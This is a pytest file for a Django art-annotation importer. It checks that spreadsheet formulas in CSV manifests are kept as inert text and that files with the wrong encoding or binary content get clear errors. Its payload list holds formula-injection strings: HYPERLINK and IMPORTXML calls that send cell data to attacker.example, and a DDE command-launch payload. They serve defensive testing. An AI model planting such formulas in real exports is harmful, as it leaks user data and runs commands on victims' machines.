"""Hostile or mis-saved manifests: formulas are kept as inert text, wrong encodings get a clear error."""
import pytest
from django.core.management import CommandError, call_command

from annotations.models import Artwork, ExpertLabel
from tests.factories import write_csv, write_image

FORMULAS = ['=1+1', '=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            '=IMPORTXML(CONCAT("http://attacker.example/",A2),"//a")']


@pytest.fixture
def images(tmp_path):
    folder = tmp_path / "images"
    for i in range(len(FORMULAS)):
        write_image(folder, f"f{i}.png", (30 * i, 60, 90))
    return folder


def test_formula_cells_in_a_manifest_are_stored_verbatim_as_text_and_nothing_is_evaluated(study, tmp_path, images):
    rows = [{"file": f"f{i}.png", "title": formula, "artist": formula, "museum": formula}
            for i, formula in enumerate(FORMULAS)]
    call_command("import_artworks", study.slug, "--manifest", str(write_csv(tmp_path / "m.csv", rows)),
                 "--images", str(images))
    stored = {a.external_id: (a.title, a.artist, a.metadata["museum"]) for a in Artwork.objects.all()}
    assert stored == {f"f{i}.png": (formula, formula, formula) for i, formula in enumerate(FORMULAS)}


def test_a_formula_as_an_expert_label_is_refused_as_not_a_label(study, tmp_path, images):
    rows = [{"file": "f0.png", "expert_style": "=1+1"}]
    with pytest.raises(CommandError, match=r"row 1, field 'expert_style'"):
        call_command("import_artworks", study.slug, "--manifest", str(write_csv(tmp_path / "m.csv", rows)),
                     "--images", str(images))
    assert not Artwork.objects.exists() and not ExpertLabel.objects.exists()


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "cp1252"])
def test_a_manifest_that_is_not_utf8_gets_a_clear_error_and_imports_nothing(study, tmp_path, images, encoding):
    path = tmp_path / "manifest.csv"
    path.write_bytes("file,title,artist\nf0.png,Le Déjeuner,Édouard Manet\n".encode(encoding))
    with pytest.raises(CommandError, match="not UTF-8 text .*save it as UTF-8"):
        call_command("import_artworks", study.slug, "--manifest", str(path), "--images", str(images))
    assert not Artwork.objects.exists()


def test_a_utf8_manifest_with_a_byte_order_mark_reads_its_first_column(study, tmp_path, images):
    path = tmp_path / "manifest.csv"
    path.write_bytes("file,title\nf0.png,Le Déjeuner\n".encode("utf-8-sig"))
    call_command("import_artworks", study.slug, "--manifest", str(path), "--images", str(images))
    assert Artwork.objects.get().title == "Le Déjeuner"


def test_a_binary_file_given_as_a_manifest_is_a_clear_error(study, tmp_path, images):
    path = tmp_path / "manifest.csv"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    with pytest.raises(CommandError, match="manifest.csv"):
        call_command("import_artworks", study.slug, "--manifest", str(path), "--images", str(images))
    assert not Artwork.objects.exists()
